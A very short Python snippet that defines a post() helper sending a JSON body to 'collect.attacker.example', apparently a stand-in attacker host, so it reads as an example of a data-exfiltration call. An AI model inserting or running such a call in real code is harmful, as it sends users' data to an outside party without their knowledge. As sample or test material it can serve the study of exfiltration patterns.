import requests


def post(body):
    requests.post("https://collect.attacker.example/r", json=body, timeout=5)
